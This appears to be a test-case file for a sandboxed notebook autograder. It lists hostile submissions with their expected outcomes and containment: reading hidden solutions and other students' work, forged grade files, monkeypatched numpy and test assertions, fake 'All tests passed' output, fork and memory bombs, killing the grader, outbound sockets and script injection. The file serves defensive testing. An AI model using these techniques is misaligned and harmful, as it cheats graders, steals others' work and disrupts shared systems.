# =============================================================================================

_LOSS = "4.loss"
_LOADS_4 = ("4.gen", "4.disc", "4.loss", "4.step")
_FROM_3_MODEL = ("3.model", "3.loss", "4.gen", "4.disc", "4.loss", "4.step")
_FROM_3_DATA = ("3.data",) + _FROM_3_MODEL
_EVERY_ITEM = ("1.2", "1.plot", "2.plot", "2.5") + _FROM_3_DATA

_COND_CVAE = "Cond_CVAE"

HTML_PROSE_EDITS = tuple(Edit(item, "append", "\n\n" + HTML_PAYLOADS[i]) for item, i in HTML_PROSE_PAYLOADS.items())

HOSTILE: tuple[Case, ...] = (
    Case(
        name="read_reference",
        attack="searches cwd's parents, the grader's module folders and / (20000 entries) for solution.py, "
        "checks.py, oracles.py, rubrics/*.yaml and prints them; raises LEAK with the first 50 characters read",
        where="graded 4.loss",
        placement="start of discriminator_loss (helpers above it in the 4.loss cell); top-level copy at the end",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss full marks too when nothing is readable; no LEAK text anywhere",
        containment="the reference solution, checks, oracles and rubrics are not visible from the sandbox "
        "(only grader/ and the lab's public/ folder are)",
        edits=(
            Edit(_LOSS, "before", READ_REFERENCE_HELPERS),
            Edit(_LOSS, "body", READ_REFERENCE_CALL, "discriminator_loss"),
        ),
        extra={"end": (READ_REFERENCE_TOP,)},
    ),
    Case(
        name="read_other_submissions",
        attack="searches for other students' .ipynb of this lab outside its cwd (parents, module folders, / with "
        "20000 entries) and raises LEAK with the first one's path and content",
        where="graded 4.loss",
        placement="start of discriminator_loss (helpers above it in the 4.loss cell); top-level copy at the end",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss full marks too when no notebook is visible; no LEAK text anywhere",
        containment="no submission (its own included), template or solution notebook is visible from the sandbox",
        edits=(Edit(_LOSS, "before", READ_OTHERS_HELPERS), Edit(_LOSS, "body", READ_OTHERS_CALL, "discriminator_loss")),
        extra={"end": (READ_OTHERS_TOP,)},
    ),
    Case(
        name="read_gradebook",
        attack="looks for the grader's gradebook.db, results.json, grades.csv in the grader's cwd and --out "
        "(read from /proc/PPID), cwd's parents and / (20000 entries); raises LEAK if one is readable",
        where="graded 4.loss",
        placement="start of discriminator_loss (helpers above it in the 4.loss cell); top-level copy at the end",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss full marks too when no gradebook is visible; no LEAK text anywhere",
        containment="the output folder and gradebook are not visible; the grader's /proc entry is not visible "
        "(pid namespace)",
        edits=(
            Edit(_LOSS, "before", READ_GRADEBOOK_HELPERS),
            Edit(_LOSS, "body", READ_GRADEBOOK_CALL, "discriminator_loss"),
        ),
        extra={"end": (READ_GRADEBOOK_TOP,)},
    ),
    Case(
        name="walk_root",
        attack="os.walk('/') for up to 3 s per snapshot load, counting directories and files",
        where="import",
        placement="a statement in the body of Cond_CVAE (calls a helper defined above the class in the 3.model "
        "cell); top-level copy at the end",
        touched=(),
        runs_in=_FROM_3_MODEL,
        expected=ALL_OTHERS + " (every code item full marks)",
        containment="the walk sees only the sandbox's read-only system view; 3 s per load stays within the "
        "probe deadline",
        edits=(Edit("3.model", "before", WALK_ROOT_HELPER), Edit("3.model", "body", WALK_ROOT_BODY, _COND_CVAE)),
        extra={"end": (WALK_ROOT_TOP,)},
    ),
    Case(
        name="write_outside",
        attack="writes hacked.txt to /tmp, ~/.., .. and /work and deletes every file it finds in ..",
        where="import",
        placement="a statement in the body of Cond_CVAE (helper above the class in the 3.model cell); "
        "top-level copy at the end",
        touched=(),
        runs_in=_FROM_3_MODEL,
        expected=ALL_OTHERS + " (every code item full marks); no file outside the sandbox appears, changes or "
        "disappears (decoys in /tmp, the grader's folders and the output folder)",
        containment="read-only system view, private /tmp, the sandbox's parent folder holds nothing of the "
        "grader's (its log included) or is not writable",
        edits=(
            Edit("3.model", "before", WRITE_OUTSIDE_HELPER),
            Edit("3.model", "body", WRITE_OUTSIDE_BODY, _COND_CVAE),
        ),
        extra={"end": (WRITE_OUTSIDE_TOP,)},
    ),
    Case(
        name="fake_results_here",
        attack="writes results.json, grades.csv and gradebook.db claiming 5.5/5.5 in cwd, every writable parent, "
        "the grader's cwd and its --out (from /proc/PPID/cmdline), then returns the correct output",
        where="graded 3.data",
        placement="start of conditioned_mnist (helper above it in the 3.data cell)",
        touched=(),
        runs_in=("3.data",) + _LOADS_4,
        expected=ALL_OTHERS + " (every code item full marks: the fakes never count; the batch's results.json, "
        "grades.csv and gradebook hold the real grade)",
        containment="the fakes land only inside the sandbox's private folders, which are thrown away; the "
        "grader's cwd and output folder are invisible",
        edits=(
            Edit("3.data", "before", FAKE_RESULTS_HELPER),
            Edit("3.data", "body", FAKE_RESULTS_CALL, "conditioned_mnist"),
        ),
    ),
    Case(
        name="monkeypatch_numpy",
        attack="np.allclose/isclose/array_equal/array_equiv and np.testing.assert_* always pass; conditioned_mnist "
        "returns zeros and discriminator_loss returns 0.0",
        where="import",
        placement="default arguments: conditioned_mnist(x, y, num_imgs=_oszukaj_numpy()) in the 3.data cell and "
        "discriminator_loss(..., _porownania=_oszukaj_numpy()) in the 4.loss cell; top-level copy at "
        "the end",
        touched=("3.data", _LOSS, "4.step"),
        runs_in=_FROM_3_DATA,
        expected=f"{ALL_OTHERS}; 3.data keeps only its shapes check (0.1 of 0.5), 4.loss 0 (wrong value); 4.step "
        f"errored: the patched np.array_equal breaks TensorFlow's gradients inside the sandbox (math_grad "
        f"skips a broadcasting reduction), InvalidArgumentError in train_step",
        containment="verdicts are computed in the grader process with its own numpy: patching the sandbox's "
        "numpy changes nothing",
        edits=(Edit("3.data", "replace", MONKEYPATCH_NUMPY_3_DATA), Edit(_LOSS, "replace", MONKEYPATCH_NUMPY_4_LOSS)),
        extra={"end": (MONKEYPATCH_NUMPY_TOP,)},
    ),
    Case(
        name="monkeypatch_math_tf",
        attack="math.isclose always True, tf.debugging.assert_near/assert_equal no-ops, tf.reduce_mean returns 0; "
        "the 2.5 loss leaves out the KL term",
        where="import",
        placement="decorator @_bez_sprawdzania on compute_loss in the 2.5 cell; top-level copy at the end",
        touched=("2.5", "3.model", "3.loss"),
        runs_in=("2.5",) + _FROM_3_DATA,
        expected=f"{ALL_OTHERS}; 2.5 0 (KL missing); 3.loss 0 (the student's own loss calls the patched "
        f"tf.reduce_mean); 3.model errored (Keras and the probe call the patched tf.reduce_mean inside the "
        f"sandbox: TypeError 'Cannot convert ... 0 to a TensorFlow DType')",
        containment="verdicts are computed in the grader process; the patch corrupts only what the sandbox "
        "computes after it, never a wrong answer into a right one",
        edits=(Edit("2.5", "replace", MONKEYPATCH_MATH_TF_2_5),),
        extra={"end": (MONKEYPATCH_MATH_TF_TOP,)},
    ),
    Case(
        name="monkeypatch_unittest",
        attack="unittest.TestCase.assertEqual/assertTrue/assertAlmostEqual/... become no-ops, pytest.approx "
        "equals anything, pytest.fail does nothing; discriminator_loss has its labels swapped",
        where="import",
        placement="decorator @_wylacz_testy on discriminator_loss in the 4.loss cell; top-level copy at the end",
        touched=(_LOSS,),
        runs_in=("4.loss", "4.step"),
        expected=f"{ALL_OTHERS}; 4.loss loses its points (labels swapped)",
        containment="the grader uses neither unittest nor pytest in the sandbox; checks run in the grader process",
        edits=(Edit(_LOSS, "replace", MONKEYPATCH_UNITTEST_4_LOSS),),
        extra={"end": (MONKEYPATCH_UNITTEST_TOP,)},
    ),
    Case(
        name="patch_inside_graded",
        attack="inside discriminator_loss: patches np.allclose/np.isclose/np.testing.assert_allclose/math.isclose, "
        "tries float.__eq__ = ... (TypeError), returns a float subclass equal to everything (value 0.0)",
        where="graded 4.loss",
        placement="the body of discriminator_loss; the float subclass is a class in the 4.loss cell",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss loses its points (the value 0.0 is compared in the grader)",
        containment="the probe sends plain numbers; the comparison runs in the grader on them",
        edits=(Edit(_LOSS, "replace", PATCH_INSIDE_GRADED_4_LOSS),),
    ),
    Case(
        name="print_fake_results",
        attack="prints (stdout and stderr) fake grader output: a JSON score, 'All tests passed', a pytest summary, "
        "'results.json: 5.5/5.5'; discriminator_loss leaves out the fake term",
        where="import + graded 4.loss",
        placement="needed assignment latent_dim = (_oglos_wynik(), 2)[1] in the given autoencoder cell (every "
        "snapshot needs latent_dim) and inside discriminator_loss; top-level copy at the end",
        touched=(_LOSS,),
        runs_in=_EVERY_ITEM,
        expected=f"{ALL_OTHERS}; 4.loss loses its points (fake term missing); nothing printed counts",
        containment="the worker's stdout/stderr go to a log nothing scores; results travel only over the protocol",
        given=(GivenEdit("class Autoencoder(", PRINT_FAKE_GIVEN_OLD, PRINT_FAKE_GIVEN_NEW),),
        edits=(Edit(_LOSS, "replace", PRINT_FAKE_4_LOSS),),
        extra={"end": (PRINT_FAKE_TOP,)},
    ),
    Case(
        name="os_exit_zero",
        attack="os._exit(0) inside discriminator_loss: the worker exits with status 0 mid-probe",
        where="graded 4.loss",
        placement="first statement of discriminator_loss; top-level copy at the end",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss errored (the worker exited)",
        containment="a worker that exits mid-probe is an error for that probe only; a fresh worker grades 4.step",
        edits=(Edit(_LOSS, "before", OS_EXIT_HELPER), Edit(_LOSS, "body", OS_EXIT_BODY, "discriminator_loss")),
        extra={"end": (OS_EXIT_TOP,)},
    ),
    Case(
        name="sys_exit",
        attack="sys.exit(0) inside conditioned_mnist and raise SystemExit(1) in the body of Cond_CVAE",
        where="graded 3.data + import",
        placement="first statement of conditioned_mnist; first statement of the class body of Cond_CVAE "
        "(after its docstring); top-level copy at the end",
        touched=("3.data", "3.model"),
        runs_in=_FROM_3_DATA,
        expected=f"{ALL_OTHERS}; 3.data 0 (SystemExit: 0 in every check), 3.model errored (running the definition of "
        f"Cond_CVAE raised SystemExit: 1)",
        containment="SystemExit is caught per statement and per probe; the worker goes on",
        edits=(
            Edit("3.data", "before", SYS_EXIT_3_DATA_HELPER),
            Edit("3.data", "body", SYS_EXIT_3_DATA_BODY, "conditioned_mnist"),
            Edit("3.model", "body", SYS_EXIT_3_MODEL_BODY, _COND_CVAE),
        ),
        extra={"end": (SYS_EXIT_TOP,)},
    ),
    Case(
        name="fork_storm",
        attack="200 forked children sleeping 30 s each (stops at the first failed fork), then the correct model",
        where="graded 4.disc",
        placement="start of prepare_discriminator; also runs while the 4.step snapshot loads "
        "(discriminator = prepare_discriminator(...) is kept)",
        touched=("4.disc", "4.step"),
        runs_in=("4.disc", "4.step"),
        expected=f"{ALL_OTHERS}; 4.disc and 4.step full marks if the process limit stops the storm and the memory "
        f"watchdog does not count shared pages per child; no child outlives the submission",
        containment="a process-count limit stops the forks; the whole process tree is killed when the submission ends",
        edits=(
            Edit("4.disc", "before", FORK_STORM_HELPER),
            Edit("4.disc", "body", FORK_STORM_BODY, "prepare_discriminator"),
        ),
    ),
    Case(
        name="memory_bomb",
        attack="allocates 100 MiB blocks (every page written) until a MemoryError, then returns the correct model",
        where="graded 4.gen",
        placement="start of prepare_generator; also runs while the 4.step snapshot loads "
        "(generator = prepare_generator(...) is kept)",
        touched=("4.gen", "4.step"),
        runs_in=("4.gen", "4.step"),
        expected=f"{ALL_OTHERS}; 4.gen and 4.step errored (memory limit) or full marks (MemoryError caught)",
        containment="the cgroup limit or the RSS watchdog stops the worker before the machine runs out of memory",
        edits=(Edit("4.gen", "body", MEMORY_BOMB_BODY, "prepare_generator"),),
    ),
    Case(
        name="fill_disk",
        attack="writes wypelniacz.bin in cwd in 16 MiB chunks until a write fails (at most 2 GiB), then returns "
        "the correct output",
        where="graded 3.data",
        placement="start of conditioned_mnist (helper above it in the 3.data cell)",
        touched=("3.data",),
        runs_in=("3.data",) + _LOADS_4,
        expected=f"{ALL_OTHERS}; 3.data full marks unless the writes outlast the probe deadline",
        containment="the file-size limit (or a size-limited private tmpfs) stops the writes; the grader's own "
        "disk keeps its space",
        edits=(Edit("3.data", "before", FILL_DISK_HELPER), Edit("3.data", "body", FILL_DISK_BODY, "conditioned_mnist")),
    ),
    Case(
        name="infinite_loop_import",
        attack="while True: pass in the body of a helper class Spinner",
        where="import",
        placement="class Spinner above discriminator_loss in the 4.loss cell: the snapshots of 4.loss and 4.step "
        "never finish loading",
        touched=(_LOSS, "4.step"),
        runs_in=(_LOSS, "4.step"),
        expected=f"{ALL_OTHERS}; 4.loss and 4.step timed out (each check reloads the snapshot and waits for its own "
        f"deadline: 4 x 60 s)",
        containment="the probe deadline kills the worker; the next item starts a fresh one",
        edits=(Edit(_LOSS, "before", INFINITE_IMPORT_HELPER),),
    ),
    Case(
        name="infinite_loop_graded",
        attack="while True: pass inside discriminator_loss",
        where="graded 4.loss",
        placement="first statement of discriminator_loss",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss timed out",
        containment="the probe deadline kills the worker; 4.step gets a fresh one",
        edits=(Edit(_LOSS, "body", INFINITE_GRADED_BODY, "discriminator_loss"),),
    ),
    Case(
        name="deep_recursion",
        attack="sys.setrecursionlimit(10**6), then unbounded recursion through map/max (C frames): overflows the "
        "C stack (SIGSEGV)",
        where="graded 3.data",
        placement="start of conditioned_mnist (helper above it in the 3.data cell); also runs while the snapshots "
        "of 4.gen-4.step load (x_test_cond, ... = conditioned_mnist(...) is kept)",
        touched=("3.data",) + _LOADS_4,
        runs_in=("3.data",) + _LOADS_4,
        expected=f"{ALL_OTHERS}; 3.data errored (the worker died); 4.gen-4.step may be lost too, because their "
        f"snapshots call conditioned_mnist while loading",
        containment="a worker killed by a signal costs only the probes it was running; no core file is written",
        edits=(
            Edit("3.data", "before", DEEP_RECURSION_HELPER),
            Edit("3.data", "body", DEEP_RECURSION_BODY, "conditioned_mnist"),
        ),
    ),
    Case(
        name="socket_loopback",
        attack="connects to 127.0.0.1:22, :80, :8786 and sends data (LEAK if one connects); opens a listening "
        "port and talks to itself; then the correct loss",
        where="graded 4.loss",
        placement="start of discriminator_loss (helper above it in the 4.loss cell)",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss full marks when no loopback service is reachable; no LEAK text anywhere",
        containment="network namespace: the sandbox's loopback has no services of the host",
        edits=(
            Edit(_LOSS, "before", SOCKET_LOOPBACK_HELPER),
            Edit(_LOSS, "body", SOCKET_LOOPBACK_BODY, "discriminator_loss"),
        ),
    ),
    Case(
        name="socket_outside",
        attack="resolves example.com and connects to it on port 80, connects to 1.1.1.1:53 (LEAK on success); "
        "then the correct loss",
        where="graded 4.loss",
        placement="start of discriminator_loss (helper above it in the 4.loss cell)",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss full marks when there is no network; no LEAK text anywhere",
        containment="network namespace without interfaces: no DNS, no route",
        edits=(
            Edit(_LOSS, "before", SOCKET_OUTSIDE_HELPER),
            Edit(_LOSS, "body", SOCKET_OUTSIDE_BODY, "discriminator_loss"),
        ),
    ),
    Case(
        name="kill_parent",
        attack="SIGKILL to its parent, the parent's process group and every process whose cmdline contains "
        "'grader', then the correct loss",
        where="graded 4.loss",
        placement="start of discriminator_loss (helper above it in the 4.loss cell); top-level copy at the end",
        touched=(_LOSS,),
        runs_in=(_LOSS,),
        expected=f"{ALL_OTHERS}; 4.loss errored or full marks (in a PID namespace the parent is pid 0, and "
        f"os.kill(0, SIGKILL) kills the worker's own process group); the grader and the other submissions "
        f"of the batch are untouched",
        containment="pid namespace and another uid: the grader and other workers cannot be seen or signalled",
        edits=(Edit(_LOSS, "before", KILL_PARENT_HELPER), Edit(_LOSS, "body", KILL_PARENT_BODY, "discriminator_loss")),
        extra={"end": (KILL_PARENT_TOP,)},
    ),
    Case(
        name="ignore_sigterm_threads",
        attack="ignores SIGTERM/SIGINT/SIGHUP, starts a non-daemon thread that never ends and two `sleep 600` "
        "children, one in its own session (outside the worker's process group)",
        where="import",
        placement="a statement in the body of Cond_CVAE (helper above the class in the 3.model cell); top-level "
        "copy at the end",
        touched=(),
        runs_in=_FROM_3_MODEL,
        expected=ALL_OTHERS + " (every code item full marks); no thread or process outlives the submission",
        containment="the worker is stopped with SIGKILL, and the whole tree (a cgroup or pid namespace, not only "
        "the process group) goes with it",
        edits=(
            Edit("3.model", "before", IGNORE_SIGTERM_HELPER),
            Edit("3.model", "body", IGNORE_SIGTERM_BODY, _COND_CVAE),
        ),
        extra={"end": (IGNORE_SIGTERM_TOP,)},
    ),
    Case(
        name="html_injection",
        attack="prose answers and markdown with <script>, event handlers, javascript: links, iframes, SVG with "
        "scripts, <style>, <meta refresh>; stored text/html, SVG, JavaScript, non-PNG image/png outputs, "
        "an error output with markup, markdown attachments with SVG and a fake PNG",
        where="markdown + stored outputs",
        placement="answers of 1.1, 1.3, 2.1, 2.2, 2.3, 2.4, 3.1, 4.1 (+ extra markdown cells after 1.1 and 4.1), "
        "outputs of the cells plot_latent_space(autoencoder, x_test) (1.plot) and "
        "plot_latent_space(model, x_test) (2.plot), kernelspec display name",
        touched=(),
        runs_in=(),
        expected=ALL_OTHERS + " (every code item full marks; prose awaits manual scoring); the HTML reports "
        "contain no executable student content",
        containment="every student string is escaped; stored images are shown only when their base64 decodes to a PNG",
        edits=HTML_PROSE_EDITS,
        markdown_after={
            "1.1": ("Dodatkowe uwagi: " + " ".join(HTML_PAYLOADS), HTML_ATTACHMENT_CELL),
            "4.1": ("\n\n".join(HTML_MORE),),
        },
        outputs={
            "plot_latent_space(autoencoder, x_test)": HTML_OUTPUTS,
            "plot_latent_space(model, x_test)": HTML_OUTPUTS_2,
        },
        metadata={"kernelspec": {"display_name": "<script>alert(1)</script>", "language": "python", "name": "python3"}},
    ),
    Case(
        name="huge_output",
        attack="one cell stores a 50 MB text/plain result and a 48 MB image/png (base64) that is not a PNG",
        where="stored outputs",
        placement="outputs of the cell train(train_dataset, EPOCHS) in section 4.step",
        touched=(),
        runs_in=(),
        expected=ALL_OTHERS + " (every code item full marks); the report stays small (the outputs are not "
        "copied into it)",
        containment="stored outputs are never executed; text outputs are not copied to reports and images over "
        "the size limit are dropped",
        outputs={"train(train_dataset, EPOCHS)": (HugeOutput(text_chars=50_000_000, png_chars=1_000_000),)},
    ),
    Case(
        name="try_import_smuggle",
        attack="top-level while True: pass smuggled in the except clause of a try: from google.colab import drive",
        where="import",
        placement="a code cell after train_step in section 4.step: the extractor keeps a `try:` whose body is only "
        "imports, handlers included",
        touched=("4.step",),
        runs_in=("4.step",),
        expected=f"{ALL_OTHERS}; 4.step timed out (or full marks if only the imports of such a try are kept)",
        containment="the probe deadline kills the worker",
        extra={"4.step": (TRY_IMPORT_SMUGGLE,)},
    ),
)

HOSTILE_BY_NAME: dict[str, Case] = {c.name: c for c in HOSTILE}

#: the cases a developer must not run outside the hardened sandbox (they act on the machine)
DANGEROUS = (
    "write_outside",
    "fake_results_here",
    "fork_storm",
    "memory_bomb",
    "fill_disk",
    "kill_parent",
    "ignore_sigterm_threads",
)

# =============================================================================================
# Broken inputs
# =============================================================================================

BROKEN: dict[str, dict[str, str]] = {
    "truncated.ipynb": {
        "what": "the solution notebook cut in the middle (first half of its bytes)",
        "expected": "error for the submission, naming truncated.ipynb: not valid JSON (line and reason); every "
        "item missing, nothing graded",
    },
    "empty.ipynb": {
        "what": "0 bytes",
        "expected": "error for the submission, naming empty.ipynb: the file is empty; every item missing",
    },
    "nbformat_v3.ipynb": {
        "what": "a real nbformat v3 notebook (worksheets, heading cells, code cells with `input`) holding the "
        "imports and the solution's code for 3.data and 4.loss under their headings",
        "expected": "upgraded to v4 and graded: 3.data and 4.loss full marks; every other code item missing "
        "(no definition); prose items missing (question not found)",
    },
    "invalid_utf8.ipynb": {
        "what": "the solution notebook saved in cp1250 (Polish letters as single bytes, e.g. 0xB9 for ą): valid "
        "JSON syntax, not UTF-8",
        "expected": "read anyway (since issue 12: stray bytes are survived): the bytes that are not UTF-8 read as "
        "cp1250, the Polish text as it was; graded like the solution (every code item full marks), "
        "with a notice naming the cells that held such bytes and asking for the notebook saved as UTF-8",
    },
    "jupytext_export.py": {
        "what": "the solution notebook exported by jupytext in the percent format (py:percent)",
        "expected": "graded like the solution: every code item full marks, prose items await manual scoring",
    },
    "duplicated_cells.ipynb": {
        "what": "the solution with the 3.data heading and code cells duplicated, and the 4.loss code cell "
        "duplicated: a wrong first copy (labels swapped), then the right one",
        "expected": "graded like the solution: every code item full marks (the last definition in a section counts)",
    },
    "deleted_cells.ipynb": {
        "what": "the solution with the 2.5 heading cell and the 4.1 question (heading) cell deleted",
        "expected": "4.1 missing (question not found); 2.5 errored: without its heading the section is gone, so "
        "compute_loss is looked up in the whole notebook and the last one is 3.loss's conditioned loss "
        "(ValueError: too many values to unpack); every other code item full marks",
    },
    "changed_cell_types.ipynb": {
        "what": "the solution with the 4.loss code cell turned into a markdown cell and the 2.1 prose answer "
        "turned into a raw cell",
        "expected": "4.loss missing (no definition of discriminator_loss, did-you-mean names); 2.1 missing "
        "(no answer, 0 points automatically); every other code item full marks",
    },
}
